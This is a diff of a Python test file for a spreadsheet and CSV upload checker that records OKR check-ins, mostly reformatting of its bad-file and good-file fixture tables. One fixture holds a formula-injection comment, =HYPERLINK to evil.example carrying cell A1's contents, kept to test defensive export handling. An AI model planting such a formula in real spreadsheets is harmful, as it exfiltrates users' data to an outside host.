@@ -4,6 +4,7 @@ stores exactly the check-ins it holds, and nothing else.
 
 Each file is committed as the Upload progress page commits it: `check_and_store` for the file's
 team at the review of 2027-05-31, not a dry run."""
+
 from __future__ import annotations
 
 import datetime as dt
@@ -28,68 +29,127 @@ BAD_FILES = {
     "truncated.xlsx": ("error", "the workbook is damaged and cannot be opened", None),
     "wrong_sheet.xlsx": ("error", "no sheet of the OKR workbook format was found", None),
     "only_header.csv": ("warning", "the sheet has a header but no rows", None),
-    "unknown_kr_id.csv": ("error", 'unknown kr_id "SAL-02-KR1" (did you mean "SAL-O2-KR1"?)',
-                          ("unknown_kr_id", 2, "kr_id")),
-    "other_team_kr.csv": ("error", "MKT-O1-KR1 is a key result of team Marketing, not of team Sales",
-                          ("other_team_kr", 3, "kr_id")),
+    "unknown_kr_id.csv": (
+        "error",
+        'unknown kr_id "SAL-02-KR1" (did you mean "SAL-O2-KR1"?)',
+        ("unknown_kr_id", 2, "kr_id"),
+    ),
+    "other_team_kr.csv": (
+        "error",
+        "MKT-O1-KR1 is a key result of team Marketing, not of team Sales",
+        ("other_team_kr", 3, "kr_id"),
+    ),
     "non_numeric_value.csv": ("error", '"about 15" is not a number', ("non_numeric_value", 2, "value")),
-    "date_far_future.csv": ("error", "date 2207-05-31 is more than 7 days after the review date 2027-05-31",
-                            ("date_far_future", 2, "date")),
+    "date_far_future.csv": (
+        "error",
+        "date 2207-05-31 is more than 7 days after the review date 2027-05-31",
+        ("date_far_future", 2, "date"),
+    ),
     "date_not_a_date.csv": ("error", '"end of May" is not a date (use YYYY-MM-DD)', ("date_not_a_date", 2, "date")),
-    "duplicate_rows.csv": ("error", "duplicate kr_id + date SAL-O2-KR1, 2027-05-31 (first at row 2)",
-                           ("duplicate_rows", 3, "date")),
+    "duplicate_rows.csv": (
+        "error",
+        "duplicate kr_id + date SAL-O2-KR1, 2027-05-31 (first at row 2)",
+        ("duplicate_rows", 3, "date"),
+    ),
     "missing_kr_id_column.csv": ("error", "its header looks like CheckIns but has no kr_id column", None),
     "missing_value_column.xlsx": ("error", "the sheet has no value column", ("CheckIns", None, "value")),
-    "formula_without_result.xlsx": ("error", 'the formula "=450000+62000" has no saved result',
-                                    ("CheckIns", 2, "value")),
+    "formula_without_result.xlsx": (
+        "error",
+        'the formula "=450000+62000" has no saved result',
+        ("CheckIns", 2, "value"),
+    ),
     "nan_inf_values.csv": ("error", '"inf" is not a finite number', ("nan_inf_values", 2, "value")),
     "negative_confidence.csv": ("error", "confidence -1 is outside 0–10", ("negative_confidence", 2, "confidence")),
     "confidence_11.csv": ("error", "confidence 11 is outside 0–10", ("confidence_11", 2, "confidence")),
-    "status_word_typo.csv": ("error", '"Good progres" is not one of: Not started, Early progress',
-                             ("status_word_typo", 2, "status")),
-    "engineering_number_for_status_kr.csv": ("error", "this KR is measured by status",
-                                             ("engineering_number_for_status_kr", 2, "status")),
-    "status_for_numeric_kr.csv": ("error", "this number KR needs a numeric value",
-                                  ("status_for_numeric_kr", 2, "value")),
+    "status_word_typo.csv": (
+        "error",
+        '"Good progres" is not one of: Not started, Early progress',
+        ("status_word_typo", 2, "status"),
+    ),
+    "engineering_number_for_status_kr.csv": (
+        "error",
+        "this KR is measured by status",
+        ("engineering_number_for_status_kr", 2, "status"),
+    ),
+    "status_for_numeric_kr.csv": (
+        "error",
+        "this number KR needs a numeric value",
+        ("status_for_numeric_kr", 2, "value"),
+    ),
     "only_empty_sheets.xlsx": ("error", "the file holds no data", None),
-    "duplicate_headers.csv": ("error", '2 columns are headed "value" (columns C, D); keep one and delete the others',
-                              ("duplicate_headers", 1, "value")),
-    "excel_error_value.xlsx": ("error", "the cell shows the error #DIV/0! (its formula failed); fix the formula, or "
-                                        "type the value instead", ("CheckIns", 2, "value")),
-    "overlong_cell.csv": ("error", "the cell holds 40,000 characters; a spreadsheet cell holds at most 32,767 "
-                                   "(Excel's limit): shorten it", ("overlong_cell", 2, "comment")),
-    "billion_laughs.xlsx": ("error", "the workbook's xl/sharedStrings.xml declares XML entities, which Excel never "
-                                     "writes (a file made to exhaust the server's memory)", None),
+    "duplicate_headers.csv": (
+        "error",
+        '2 columns are headed "value" (columns C, D); keep one and delete the others',
+        ("duplicate_headers", 1, "value"),
+    ),
+    "excel_error_value.xlsx": (
+        "error",
+        "the cell shows the error #DIV/0! (its formula failed); fix the formula, or type the value instead",
+        ("CheckIns", 2, "value"),
+    ),
+    "overlong_cell.csv": (
+        "error",
+        "the cell holds 40,000 characters; a spreadsheet cell holds at most 32,767 (Excel's limit): shorten it",
+        ("overlong_cell", 2, "comment"),
+    ),
+    "billion_laughs.xlsx": (
+        "error",
+        "the workbook's xl/sharedStrings.xml declares XML entities, which Excel never "
+        "writes (a file made to exhaust the server's memory)",
+        None,
+    ),
 }
 
 
 def check_in(kr_id, value=None, status=None, confidence=None, comment=None, updated_by=None, date=MAY_31):
-    return {"kr_id": kr_id, "date": date, "value": value, "status": status, "confidence": confidence,
-            "comment": comment, "updated_by": updated_by}
+    return {
+        "kr_id": kr_id,
+        "date": date,
+        "value": value,
+        "status": status,
+        "confidence": confidence,
+        "comment": comment,
+        "updated_by": updated_by,
+    }
 
 
 # file → the check-ins it must add, and the distinctive part of each warning it must raise
 GOOD_FILES = {
-    "template_filled.xlsx": ([
-        check_in("SAL-O2-KR1", 512000, confidence=8, comment="Two deals closed"),
-        check_in("SAL-O3-KR2", 3, confidence=5),
-    ], []),
-    "checkins_sheet.xlsx": ([
-        check_in("SAL-O2-KR1", 512000, confidence=7, comment="Two deals closed", updated_by="Maya Goldberg"),
-        check_in("SAL-O2-KR3", 23.5, confidence=8, updated_by="Fatima Zahra"),
-    ], []),
-    "full_workbook.xlsx": ([
-        check_in("SAL-O2-KR1", 512000, confidence=7, comment="Two deals closed", updated_by="Maya Goldberg"),
-        check_in("SAL-O2-KR2", 15, confidence=7, updated_by="Maya Goldberg"),
-    ], []),
-    "current_column_no_date.csv": ([
-        check_in("SAL-O2-KR1", 512000, comment="Two deals closed"),
-        check_in("SAL-O3-KR3", 97),
-    ], []),
-    "semicolon_decimal_comma.csv": ([
-        check_in("SAL-O2-KR1", 512000.5, comment="Zwei Abschlüsse"),
-        check_in("SAL-O2-KR3", 23.5),
-    ], []),
+    "template_filled.xlsx": (
+        [
+            check_in("SAL-O2-KR1", 512000, confidence=8, comment="Two deals closed"),
+            check_in("SAL-O3-KR2", 3, confidence=5),
+        ],
+        [],
+    ),
+    "checkins_sheet.xlsx": (
+        [
+            check_in("SAL-O2-KR1", 512000, confidence=7, comment="Two deals closed", updated_by="Maya Goldberg"),
+            check_in("SAL-O2-KR3", 23.5, confidence=8, updated_by="Fatima Zahra"),
+        ],
+        [],
+    ),
+    "full_workbook.xlsx": (
+        [
+            check_in("SAL-O2-KR1", 512000, confidence=7, comment="Two deals closed", updated_by="Maya Goldberg"),
+            check_in("SAL-O2-KR2", 15, confidence=7, updated_by="Maya Goldberg"),
+        ],
+        [],
+    ),
+    "current_column_no_date.csv": (
+        [
+            check_in("SAL-O2-KR1", 512000, comment="Two deals closed"),
+            check_in("SAL-O3-KR3", 97),
+        ],
+        [],
+    ),
+    "semicolon_decimal_comma.csv": (
+        [
+            check_in("SAL-O2-KR1", 512000.5, comment="Zwei Abschlüsse"),
+            check_in("SAL-O2-KR3", 23.5),
+        ],
+        [],
+    ),
     "excel_serial_dates.xlsx": ([check_in("SAL-O2-KR1", 512000), check_in("SAL-O2-KR2", 15)], []),
     "percent_and_dollar.csv": (
         [check_in("SAL-O2-KR3", 24), check_in("SAL-O2-KR1", 1200)],
@@ -108,17 +168,24 @@ GOOD_FILES = {
         [],
     ),
     "value_moved_backwards.csv": (
-        [check_in("SAL-O2-KR1", 300000, confidence=6, comment="Deal slipped out"), check_in("SAL-O2-KR4", 85, confidence=6)],
-        ["value 300,000 is below the previous check-in (338,000 on 2027-05-28) for a KR meant to increase",
-         "value 85 is above the previous check-in (79 on 2027-05-28) for a KR meant to decrease"],
+        [
+            check_in("SAL-O2-KR1", 300000, confidence=6, comment="Deal slipped out"),
+            check_in("SAL-O2-KR4", 85, confidence=6),
+        ],
+        [
+            "value 300,000 is below the previous check-in (338,000 on 2027-05-28) for a KR meant to increase",
+            "value 85 is above the previous check-in (79 on 2027-05-28) for a KR meant to decrease",
+        ],
     ),
     "utf8_bom.csv": ([check_in("SAL-O2-KR1", 512000, comment="Déjà signé")], []),
     "utf16be_bom.csv": ([check_in("SAL-O2-KR1", 512000, comment="Größer – ça marche")], []),
     "utf16be_without_bom.csv": ([check_in("SAL-O2-KR1", 512000)], []),
     "pipe_separated.csv": ([check_in("SAL-O2-KR1", 512000, comment="Two deals, both signed")], []),
     # Tab-separated: a single comma is a decimal comma (23,5), as a lone comma is in any file.
-    "tab_separated_utf8.csv": ([check_in("SAL-O2-KR1", 512000, confidence=7), check_in("SAL-O2-KR3", 23.5, confidence=8)],
-                               []),
+    "tab_separated_utf8.csv": (
+        [check_in("SAL-O2-KR1", 512000, confidence=7), check_in("SAL-O2-KR3", 23.5, confidence=8)],
+        [],
+    ),
     # Comma-separated: "23,5" (quoted) is a decimal comma, "1,250,000" groups thousands.
     "decimal_comma_quoted.csv": ([check_in("SAL-O2-KR3", 23.5), check_in("SAL-O2-KR1", 1250000)], []),
     # One order per column: 05/31/2027 can only be month first, so the whole column is, and 03/04/2027
@@ -131,12 +198,16 @@ GOOD_FILES = {
     "epoch_1904.xlsx": ([check_in("SAL-O2-KR1", 512000), check_in("SAL-O2-KR2", 15)], []),
     "merged_title_cells.xlsx": ([check_in("SAL-O2-KR1", 512000, comment="Two deals closed")], []),
     "title_rows_above_header.csv": ([check_in("SAL-O2-KR1", 512000)], []),
-    "empty_sheet_beside_data.xlsx": ([check_in("SAL-O2-KR1", 512000, confidence=7, comment="Two deals closed",
-                                               updated_by="Maya Goldberg")], []),
+    "empty_sheet_beside_data.xlsx": (
+        [check_in("SAL-O2-KR1", 512000, confidence=7, comment="Two deals closed", updated_by="Maya Goldberg")],
+        [],
+    ),
     "formula_with_saved_result.xlsx": ([check_in("SAL-O2-KR1", 512000)], []),
     # Stored as typed; every export neutralises it (tests/test_hostile_input.py).
-    "formula_injection_comment.csv": ([check_in("SAL-O2-KR1", 512000, confidence=7,
-                                                comment='=HYPERLINK("http://evil.example/?d="&A1,"Click")')], []),
+    "formula_injection_comment.csv": (
+        [check_in("SAL-O2-KR1", 512000, confidence=7, comment='=HYPERLINK("http://evil.example/?d="&A1,"Click")')],
+        [],
+    ),
 }
 
 
@@ -150,8 +221,9 @@ def commit(target: str, file_name: str, content: bytes | None = None):
         before = store.read_tables()
         uploads_before = len(store.uploads())
         data = (CORPUS / file_name).read_bytes() if content is None else content
-        result = check_and_store(store, [UploadedFile(file_name, data)], "Team lead", team=team_of(file_name),
-                                 as_of=DEMO_AS_OF)
+        result = check_and_store(
+            store, [UploadedFile(file_name, data)], "Team lead", team=team_of(file_name), as_of=DEMO_AS_OF
+        )
         return result, before, store.read_tables(), uploads_before, len(store.uploads())
     finally:
         store.close()
@@ -197,7 +269,8 @@ def test_an_odd_but_valid_file_stores_exactly_its_check_ins(writable_demo_db, fi
     assert added["date"].tolist() == expected["date"].tolist()
     for column in ("value", "status", "confidence", "comment", "updated_by"):
         assert [None if pd.isna(v) else v for v in added[column]] == [
-            None if pd.isna(v) else v for v in expected[column]], column
+            None if pd.isna(v) else v for v in expected[column]
+        ], column
     for name, frame in before.items():
         if name != "check_ins":
             pd.testing.assert_frame_equal(frame, after[name], obj=name)
@@ -228,7 +301,7 @@ def test_re_uploading_a_file_changes_nothing_the_second_time(writable_demo_db):
 
 
 def test_check_in_dates_up_to_a_week_after_the_review_are_accepted(writable_demo_db):
-    late = "kr_id,date,value\nSAL-O2-KR1,2027-06-07,520000\nSAL-O2-KR2,2027-06-08,16\n".encode()
+    late = b"kr_id,date,value\nSAL-O2-KR1,2027-06-07,520000\nSAL-O2-KR2,2027-06-08,16\n"
     result, *_ = commit(writable_demo_db, "june.csv", late)
     assert [(p.row, p.column) for p in result.errors] == [(3, "date")]
     assert "at the latest 2027-06-07" in result.errors[0].problem
@@ -268,8 +341,9 @@ def test_dry_run_of_a_progress_upload_previews_without_storing(writable_demo_db)
     try:
         before = store.read_tables()
         data = (CORPUS / "template_filled.xlsx").read_bytes()
-        result = check_and_store(store, [UploadedFile("t.xlsx", data)], "lead", dry_run=True, team="Sales",
-                                 as_of=dt.date(2027, 5, 31))
+        result = check_and_store(
+            store, [UploadedFile("t.xlsx", data)], "lead", dry_run=True, team="Sales", as_of=dt.date(2027, 5, 31)
+        )
         after = store.read_tables()
     finally:
         store.close()
